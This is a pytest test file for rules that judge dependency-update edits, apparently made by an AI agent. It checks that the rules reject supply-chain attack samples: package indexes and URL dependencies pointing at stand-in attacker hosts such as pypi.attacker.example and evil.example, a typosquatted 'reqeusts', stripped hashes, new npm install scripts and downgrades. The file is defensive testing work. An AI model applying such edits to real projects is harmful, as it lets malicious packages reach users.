"""AllowDependencyUpdates and DependencyRisks on real VSH evidence."""

from __future__ import annotations

import json
from collections.abc import Awaitable, Callable, Mapping

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vsh_ai import Evidence
from vsh_ai.rules import RuleSet
from vsh_ai.rules._base import Claim, net_changes
from vsh_ai.rules._deps import AllowDependencyUpdates, DependencyRisks

pytestmark = pytest.mark.anyio

Build = Callable[..., Awaitable[Evidence]]

PYPROJECT = """\
[project]
name = "shop"
version = "1.4.0"
dependencies = [
    "requests==2.31.0",
    "django==4.2.11",
    "cryptography==42.0.5",
]

[project.optional-dependencies]
dev = ["pytest==8.1.1", "pip-audit==2.7.2", "black==24.2.0"]
"""
H1 = "sha256:" + "a" * 64
H2 = "sha256:" + "b" * 64
H3 = "sha256:" + "c" * 64
REQUIREMENTS = f"--require-hashes\nrequests==2.31.0 \\\n    --hash={H1}\n"
PACKAGE = {
    "name": "shop-ui",
    "version": "1.4.0",
    "scripts": {"build": "vite build", "test": "vitest"},
    "dependencies": {"lodash": "4.17.20", "react": "18.2.0"},
}
RANGED = {**PACKAGE, "dependencies": {"lodash": "^4.17.20", "react": "18.2.0"}}


def lock_for(lodash: str, *, host: str = "https://registry.npmjs.org", spec: str = "") -> str:
    return json.dumps(
        {
            "name": "shop-ui",
            "version": "1.4.0",
            "lockfileVersion": 3,
            "requires": True,
            "packages": {
                "": {
                    "name": "shop-ui",
                    "version": "1.4.0",
                    "dependencies": {"lodash": spec or lodash, "react": "18.2.0"},
                },
                "node_modules/lodash": {
                    "version": lodash,
                    "resolved": f"{host}/lodash/-/lodash-{lodash}.tgz",
                    "integrity": f"sha512-{lodash}",
                },
                "node_modules/react": {
                    "version": "18.2.0",
                    "resolved": "https://registry.npmjs.org/react/-/react-18.2.0.tgz",
                    "integrity": "sha512-react",
                },
            },
        },
        indent=2,
    )


def uv_lock(requests: str, *, spec: str | None = None) -> str:
    return f"""\
version = 1
requires-python = ">=3.11"

[[package]]
name = "requests"
version = "{requests}"
source = {{ registry = "https://pypi.org/simple" }}
sdist = {{ url = "https://f.example/r-{requests}.tar.gz", hash = "sha256:{requests}" }}

[[package]]
name = "shop"
version = "1.4.0"
source = {{ virtual = "." }}
dependencies = [{{ name = "requests" }}]

[package.metadata]
requires-dist = [{{ name = "requests", specifier = "=={spec or requests}" }}]
"""


FILES: dict[str, str] = {
    "pyproject.toml": PYPROJECT,
    "requirements.txt": REQUIREMENTS,
    "package.json": json.dumps(PACKAGE, indent=2),
    "CHANGELOG.md": "# Changelog\n",
}


def patch(path: str, old: str, new: str) -> str:
    return f"vsh_patch('/workspace/{path}', {old!r}, {new!r})"


def write(path: str, text: str) -> str:
    return f"vsh_write('/workspace/{path}', {text!r})"


def claims(evidence: Evidence, rule: AllowDependencyUpdates) -> dict[str, Claim | None]:
    return {change.path: rule.claim(evidence, change) for change in net_changes(evidence)}


async def run(
    evidence_for: Build,
    code: str,
    *,
    files: Mapping[str, str] = FILES,
    intent: str = "Bump dependencies.",
) -> Evidence:
    return await evidence_for(dict(files), code, intent=intent)


ALLOW = AllowDependencyUpdates()
RISKS = DependencyRisks()


# -- claimed: exact pins moved to newer exact versions ---------------------------------


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("pyproject.toml", '"requests==2.31.0"', '"requests==2.32.3"'),
        ("pyproject.toml", '"django==4.2.11"', '"django==4.2.16"'),
        ("pyproject.toml", '"black==24.2.0"', '"black==24.4.2"'),
        ("package.json", '"lodash": "4.17.20"', '"lodash": "4.17.21"'),
        (
            "requirements.txt",
            f"requests==2.31.0 \\\n    --hash={H1}",
            f"requests==2.32.3 \\\n    --hash={H2}",
        ),
        (
            "requirements.txt",
            f"requests==2.31.0 \\\n    --hash={H1}",
            f"requests==2.32.3 \\\n    --hash={H2} \\\n    --hash={H3}",
        ),
    ],
)
async def test_exact_pin_bump_is_claimed_and_not_denied(
    evidence_for: Build, path: str, old: str, new: str
) -> None:
    evidence = await run(evidence_for, patch(path, old, new))
    claim = claims(evidence, ALLOW)[path]
    assert claim is not None
    assert claim.ok, claim
    assert "newer" in claim.reason
    assert RISKS.check(evidence) is None
    verdict = RuleSet([ALLOW, RISKS]).evaluate(evidence)
    assert verdict.decision == "approve", verdict.reason


async def test_major_bump_needs_allow_major(evidence_for: Build) -> None:
    evidence = await run(evidence_for, patch("pyproject.toml", "django==4.2.11", "django==5.0.6"))
    claim = claims(evidence, ALLOW)["pyproject.toml"]
    assert claim is not None
    assert not claim.ok
    assert "major" in claim.reason
    verdict = RISKS.check(evidence)  # not an attack, but a person decides (not a model)
    assert verdict is not None
    assert verdict.decision == "review"
    assert "another major version" in verdict.reason
    assert DependencyRisks(major_action=None).check(evidence) is None
    ok = claims(evidence, AllowDependencyUpdates(allow_major=True))["pyproject.toml"]
    assert ok is not None
    assert ok.ok


async def test_packages_limit_the_claim(evidence_for: Build) -> None:
    evidence = await run(evidence_for, patch("pyproject.toml", "django==4.2.11", "django==4.2.16"))
    only_requests = AllowDependencyUpdates(packages=("Requests",))
    claim = claims(evidence, only_requests)["pyproject.toml"]
    assert claim is not None
    assert not claim.ok
    assert "django" in claim.reason
    claim = claims(evidence, AllowDependencyUpdates(packages=("Django",)))["pyproject.toml"]
    assert claim is not None
    assert claim.ok


async def test_other_paths_and_kinds_are_out_of_scope_or_refused(evidence_for: Build) -> None:
    evidence = await run(
        evidence_for,
        write("CHANGELOG.md", "# Changelog\n- bump\n")
        + "\n"
        + write("requirements-dev.txt", "x==1\n"),
    )
    found = claims(evidence, ALLOW)
    assert found["CHANGELOG.md"] is None
    created = found["requirements-dev.txt"]
    assert created is not None
    assert not created.ok
    assert "create" in created.reason


# -- the gaps: not claimed, and the attacks denied ---------------------------------------


async def test_wildcard_is_not_an_exact_pin(evidence_for: Build) -> None:
    evidence = await run(
        evidence_for, patch("pyproject.toml", "requests==2.31.0", "requests==2.32.*")
    )
    claim = claims(evidence, ALLOW)["pyproject.toml"]
    assert claim is not None
    assert not claim.ok
    assert "requests" in claim.reason
    assert "exact pin" in claim.reason
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "loosened" in verdict.reason


async def test_extras_change_is_not_claimed(evidence_for: Build) -> None:
    evidence = await run(
        evidence_for, patch("pyproject.toml", '"requests==2.31.0"', '"requests[socks]==2.32.3"')
    )
    claim = claims(evidence, ALLOW)["pyproject.toml"]
    assert claim is not None
    assert not claim.ok
    assert "extras" in claim.reason
    assert "socks" in claim.reason
    assert RuleSet([ALLOW, RISKS]).evaluate(evidence).decision == "review"


async def test_marker_that_never_holds_is_rejected(evidence_for: Build) -> None:
    evidence = await run(
        evidence_for,
        patch("pyproject.toml", '"pip-audit==2.7.2"', "\"pip-audit==2.7.2; python_version < '3'\""),
    )
    claim = claims(evidence, ALLOW)["pyproject.toml"]
    assert claim is not None
    assert not claim.ok
    assert "marker" in claim.reason
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "never holds" in verdict.reason
    assert "pip-audit" in verdict.reason


async def test_marker_for_one_platform_is_not_a_denial(evidence_for: Build) -> None:
    evidence = await run(
        evidence_for,
        patch("pyproject.toml", '"black==24.2.0"', "\"black==24.2.0; sys_platform != 'win32'\""),
    )
    assert RISKS.check(evidence) is None
    claim = claims(evidence, ALLOW)["pyproject.toml"]
    assert claim is not None
    assert not claim.ok


@pytest.mark.parametrize(
    "new",
    [
        "requests==2.32.3\n",  # every --hash and --require-hashes gone
        "--require-hashes\nrequests==2.32.3\n",  # the hash gone
    ],
)
async def test_dropped_hashes_are_rejected(evidence_for: Build, new: str) -> None:
    evidence = await run(evidence_for, write("requirements.txt", new))
    claim = claims(evidence, ALLOW)["requirements.txt"]
    assert claim is not None
    assert not claim.ok
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "hash" in verdict.reason


@pytest.mark.parametrize("new", [">=4.17.21", "4.19.2 || >=0.0.0", "*", "latest", "4.x"])
async def test_npm_loosened_ranges_are_rejected(evidence_for: Build, new: str) -> None:
    files = {**FILES, "package.json": json.dumps(RANGED, indent=2)}
    evidence = await run(
        evidence_for,
        patch("package.json", '"lodash": "^4.17.20"', f'"lodash": "{new}"'),
        files=files,
    )
    claim = claims(evidence, ALLOW)["package.json"]
    assert claim is not None
    assert not claim.ok
    assert "lodash" in claim.reason
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "loosened" in verdict.reason


async def test_npm_narrowed_range_is_not_denied(evidence_for: Build) -> None:
    files = {**FILES, "package.json": json.dumps(RANGED, indent=2)}
    evidence = await run(
        evidence_for,
        patch("package.json", '"lodash": "^4.17.20"', '"lodash": "^4.17.21"'),
        files=files,
    )
    assert RISKS.check(evidence) is None
    claim = claims(evidence, ALLOW)["package.json"]
    assert claim is not None
    assert not claim.ok
    assert "not pinned exactly" in claim.reason


@pytest.mark.parametrize("script", ["prepare", "postinstall", "preinstall", "install"])
async def test_new_install_script_is_rejected(evidence_for: Build, script: str) -> None:
    evidence = await run(
        evidence_for,
        patch(
            "package.json",
            '"build": "vite build"',
            f'"{script}": "node tools/setup.js", "build": "vite build"',
        ),
    )
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert script in verdict.reason
    claim = claims(evidence, ALLOW)["package.json"]
    assert claim is not None
    assert not claim.ok
    assert "scripts" in claim.reason


@pytest.mark.parametrize(
    "addition",
    [
        '\n[tool.uv.sources]\nrequests = { path = "../vendor/requests" }\n',
        '\n[tool.uv.sources]\nrequests = { git = "https://github.com/x/requests" }\n',
        '\n[[tool.uv.index]]\nname = "mirror"\nurl = "https://mirror.example/simple"\n',
        '\n[[tool.poetry.source]]\nname = "m"\nurl = "https://mirror.example/simple"\n',
    ],
)
async def test_new_sources_in_pyproject_are_rejected(evidence_for: Build, addition: str) -> None:
    evidence = await run(evidence_for, write("pyproject.toml", PYPROJECT + addition))
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    claim = claims(evidence, ALLOW)["pyproject.toml"]
    assert claim is not None
    assert not claim.ok


async def test_poetry_path_dependency_is_rejected(evidence_for: Build) -> None:
    before = '[tool.poetry.dependencies]\npython = "^3.11"\nrequests = "2.31.0"\n'
    after = '[tool.poetry.dependencies]\npython = "^3.11"\nrequests = { path = "../requests" }\n'
    evidence = await run(
        evidence_for, write("pyproject.toml", after), files={**FILES, "pyproject.toml": before}
    )
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "requests" in verdict.reason


@pytest.mark.parametrize("name", ["pip.ini", "pip.conf", "config/pip/pip.conf"])
async def test_pip_config_index_is_rejected(evidence_for: Build, name: str) -> None:
    text = "[global]\nindex-url = https://user:hunter2token@pypi.attacker.example/simple\n"
    files = {**FILES, "config/pip/README": "pip settings\n"}
    evidence = await run(evidence_for, write(name, text), files=files)
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "index-url" in verdict.reason
    assert "hunter2token" not in verdict.reason  # credentials in URLs are masked


@pytest.mark.parametrize(
    "program",
    [
        write(
            "requirements.txt",
            "--extra-index-url http://pypi.internal-mirror.example.net/simple\n" + REQUIREMENTS,
        ),
        write(
            "requirements.txt",
            "--index-url https://pypi.attacker.example/simple\nrequests==2.32.3\n",
        ),
        write("requirements.txt", REQUIREMENTS + "-r other-requirements.txt\n"),
        write("requirements.txt", REQUIREMENTS + "--trusted-host evil.example\n"),
    ],
)
async def test_requirement_file_options_are_rejected(evidence_for: Build, program: str) -> None:
    evidence = await run(evidence_for, program)
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"


@pytest.mark.parametrize(
    "dep",
    [
        "fastjson @ git+https://github.com/fastjs0n/fastjson@main",
        "requests @ https://evil.example/requests-2.32.3-py3-none-any.whl",
    ],
)
async def test_url_dependencies_are_rejected(evidence_for: Build, dep: str) -> None:
    evidence = await run(
        evidence_for,
        patch(
            "pyproject.toml",
            '    "cryptography==42.0.5",\n',
            f'    "cryptography==42.0.5",\n    "{dep}",\n',
        )
        if dep.startswith("fastjson")
        else patch("pyproject.toml", '"requests==2.31.0"', f'"{dep}"'),
    )
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "default index" in verdict.reason


@pytest.mark.parametrize(
    "spec",
    [
        "github:fastjs0n/lodash",
        "git+https://x.example/l.git",
        "npm:lodash-fork@4.17.21",
        "file:../lodash",
    ],
)
async def test_npm_sources_are_rejected(evidence_for: Build, spec: str) -> None:
    evidence = await run(
        evidence_for, patch("package.json", '"lodash": "4.17.20"', f'"lodash": "{spec}"')
    )
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "lodash" in verdict.reason


async def test_typosquat_and_downgrade_and_removed_tooling_are_rejected(
    evidence_for: Build,
) -> None:
    for program, word in [
        (
            patch("pyproject.toml", '"requests==2.31.0"', '"reqeusts==2.32.3"'),
            "looks like requests",
        ),
        (patch("pyproject.toml", '"cryptography==42.0.5"', '"cryptography==3.4.8"'), "downgraded"),
        (patch("pyproject.toml", '"pip-audit==2.7.2", ', ""), "security tool pip-audit"),
    ]:
        evidence = await run(evidence_for, program)
        verdict = RISKS.check(evidence)
        assert verdict is not None
        assert verdict.decision == "reject", program
        assert word in verdict.reason


async def test_new_package_goes_to_a_human_only_when_the_intent_says_so(
    evidence_for: Build,
) -> None:
    program = patch(
        "pyproject.toml", 'dev = ["pytest==8.1.1",', 'dev = ["pytest==8.1.1", "pytest-cov==5.0.0",'
    )
    said = await run(evidence_for, program, intent="Add coverage reporting.")
    verdict = RISKS.check(said)
    assert verdict is not None
    assert verdict.decision == "review"
    unsaid = await run(evidence_for, program, intent="[renovate-ai] routine update")
    verdict = RISKS.check(unsaid)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "pytest-cov" in verdict.reason


# -- lock files --------------------------------------------------------------------------


async def test_manifest_and_lock_bumped_together_are_claimed(evidence_for: Build) -> None:
    files = {**FILES, "package-lock.json": lock_for("4.17.20")}
    program = (
        patch("package.json", '"lodash": "4.17.20"', '"lodash": "4.17.21"')
        + "\n"
        + write("package-lock.json", lock_for("4.17.21"))
    )
    evidence = await run(evidence_for, program, files=files)
    found = claims(evidence, ALLOW)
    assert all(c is not None and c.ok for c in found.values()), found
    assert RISKS.check(evidence) is None
    assert RuleSet([ALLOW, RISKS]).evaluate(evidence).decision == "approve"


@pytest.mark.parametrize(
    "lock",
    [
        lock_for("4.17.20", spec="4.17.21"),  # root copy updated, entry left behind
        lock_for("4.17.19", spec="4.17.21"),  # entry moved the other way
        lock_for("4.17.22", spec="4.17.21"),  # entry is not the pinned version
    ],
)
async def test_lock_entry_not_matching_the_manifest_is_not_claimed(
    evidence_for: Build, lock: str
) -> None:
    files = {**FILES, "package-lock.json": lock_for("4.17.20")}
    program = (
        patch("package.json", '"lodash": "4.17.20"', '"lodash": "4.17.21"')
        + "\n"
        + write("package-lock.json", lock)
    )
    evidence = await run(evidence_for, program, files=files)
    found = claims(evidence, ALLOW)
    assert not all(c is not None and c.ok for c in found.values()), found
    refused = [c for c in found.values() if c is not None and not c.ok]
    assert any("lodash" in c.reason for c in refused)
    assert RuleSet([ALLOW, RISKS]).evaluate(evidence).decision != "approve"


async def test_lock_only_bump_outside_the_declared_pin_is_not_claimed(evidence_for: Build) -> None:
    files = {**FILES, "package-lock.json": lock_for("4.17.20")}
    evidence = await run(
        evidence_for, write("package-lock.json", lock_for("4.17.21", spec="4.17.20")), files=files
    )
    claim = claims(evidence, ALLOW)["package-lock.json"]
    assert claim is not None
    assert not claim.ok
    assert "outside the declared" in claim.reason


async def test_lock_only_bump_within_the_declared_range_is_claimed(evidence_for: Build) -> None:
    files = {
        **FILES,
        "package.json": json.dumps(RANGED),
        "package-lock.json": lock_for("4.17.20", spec="^4.17.20"),
    }
    evidence = await run(
        evidence_for, write("package-lock.json", lock_for("4.17.21", spec="^4.17.20")), files=files
    )
    claim = claims(evidence, ALLOW)["package-lock.json"]
    assert claim is not None
    assert claim.ok, claim


async def test_lock_entry_from_another_registry_is_rejected(evidence_for: Build) -> None:
    files = {
        **FILES,
        "package.json": json.dumps(RANGED),
        "package-lock.json": lock_for("4.17.20", spec="^4.17.20"),
    }
    evidence = await run(
        evidence_for,
        write(
            "package-lock.json",
            lock_for("4.17.21", spec="^4.17.20", host="https://npm.evil.example"),
        ),
        files=files,
    )
    claim = claims(evidence, ALLOW)["package-lock.json"]
    assert claim is not None
    assert not claim.ok
    assert "source" in claim.reason
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "source" in verdict.reason


async def test_uv_lock_bump_with_pyproject(evidence_for: Build) -> None:
    files = {**FILES, "uv.lock": uv_lock("2.31.0")}
    good = (
        patch("pyproject.toml", '"requests==2.31.0"', '"requests==2.32.3"')
        + "\n"
        + write("uv.lock", uv_lock("2.32.3"))
    )
    evidence = await run(evidence_for, good, files=files)
    found = claims(evidence, ALLOW)
    assert all(c is not None and c.ok for c in found.values()), found
    stale = (
        patch("pyproject.toml", '"requests==2.31.0"', '"requests==2.32.3"')
        + "\n"
        + write("uv.lock", uv_lock("2.31.0", spec="2.32.3"))
    )
    evidence = await run(evidence_for, stale, files=files)
    found = claims(evidence, ALLOW)
    assert not all(c is not None and c.ok for c in found.values()), found


async def test_unparsable_manifest_is_not_claimed(evidence_for: Build) -> None:
    evidence = await run(
        evidence_for, write("package.json", '{"dependencies": {"lodash": "4.17.21"')
    )
    claim = claims(evidence, ALLOW)["package.json"]
    assert claim is not None
    assert not claim.ok
    assert "syntax" in claim.reason
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "review"


# -- property: exact -> newer exact is claimed; any added extra/marker/source is not ----


@settings(max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    minor=st.integers(min_value=31, max_value=99),
    patch_level=st.integers(min_value=0, max_value=20),
    extra=st.sampled_from(
        ["", "[socks]", "; sys_platform == 'linux'", " @ https://x.example/r.whl"]
    ),
)
async def test_property_bumps_and_additions(
    evidence_for: Build, minor: int, patch_level: int, extra: str
) -> None:
    new = f"2.{minor}.{patch_level}"
    if extra.startswith("["):
        spec = f"requests{extra}=={new}"
    elif extra.startswith(" @"):
        spec = f"requests{extra}"
    else:
        spec = f"requests=={new}{extra}"
    evidence = await run(evidence_for, patch("pyproject.toml", '"requests==2.31.0"', f'"{spec}"'))
    found = claims(evidence, ALLOW)
    if spec == "requests==2.31.0":  # the patch changed nothing
        assert found == {}
        return
    claim = found["pyproject.toml"]
    assert claim is not None
    newer = (minor, patch_level) > (31, 0)
    assert claim.ok == (newer and not extra), (spec, claim)


async def test_marker_that_drops_a_package_on_linux_is_rejected(evidence_for: Build) -> None:
    program = patch(
        "pyproject.toml", '"pip-audit==2.7.2"', "\"pip-audit==2.7.3; sys_platform == 'win32'\""
    )
    evidence = await run(evidence_for, program)
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "excludes Linux" in verdict.reason


async def test_lock_only_downgrade_is_rejected(evidence_for: Build) -> None:
    files = {**FILES, "package-lock.json": lock_for("4.17.20")}
    evidence = await run(
        evidence_for, write("package-lock.json", lock_for("4.17.11", spec="4.17.20")), files=files
    )
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "downgraded (4.17.20 -> 4.17.11)" in verdict.reason


async def test_new_override_is_a_new_package(evidence_for: Build) -> None:
    forced = {**PACKAGE, "overrides": {"minimist": "0.0.8"}}
    program = write("package.json", json.dumps(forced, indent=2))
    evidence = await run(evidence_for, program, intent="Pin a transitive dependency.")
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "minimist" in verdict.reason
    claim = claims(evidence, ALLOW)["package.json"]
    assert claim is not None
    assert not claim.ok


async def test_tokens_in_sources_never_reach_reasons(evidence_for: Build) -> None:
    token = "ghp_" + "k3Y9" * 9
    program = patch(
        "pyproject.toml",
        '"requests==2.31.0"',
        f'"requests @ https://mirror.example/r.whl?token={token}"',
    )
    evidence = await run(evidence_for, program)
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert token not in verdict.reason
    claim = claims(evidence, ALLOW)["pyproject.toml"]
    assert claim is not None
    assert token not in claim.reason


async def test_comment_line_ending_in_backslash_does_not_hide_an_index(evidence_for: Build) -> None:
    text = "# mirrors below \\\n--index-url https://pypi.attacker.example/simple\n" + REQUIREMENTS
    evidence = await run(evidence_for, write("requirements.txt", text))
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "index-url" in verdict.reason


async def test_renamed_manifest_is_compared_with_its_source(evidence_for: Build) -> None:
    evidence = await run(
        evidence_for,
        "vsh_move('/workspace/requirements.txt', '/workspace/requirements-prod.txt')",
        intent="Rename the requirements file.",
    )
    assert RISKS.check(evidence) is None  # same packages, same hashes: nothing new
    evidence = await run(
        evidence_for,
        "vsh_move('/workspace/requirements.txt', '/workspace/requirements-prod.txt')\n"
        + write("requirements-prod.txt", "requests==2.32.3\n"),
    )
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("uv.toml", '[[index]]\nurl = "https://mirror.attacker.example/simple"\n'),
        ("uv.toml", 'extra-index-url = ["https://mirror.attacker.example/simple"]\n'),
        (".yarnrc.yml", 'npmRegistryServer: "https://npm.attacker.example"\n'),
        (".yarnrc", 'registry "https://npm.attacker.example"\n'),
        ("bunfig.toml", '[install]\nregistry = "https://npm.attacker.example"\n'),
    ],
)
async def test_installer_config_sources_are_rejected(
    evidence_for: Build, name: str, text: str
) -> None:
    evidence = await run(evidence_for, write(name, text))
    verdict = RISKS.check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "attacker" in verdict.reason or "index" in verdict.reason or "registr" in verdict.reason
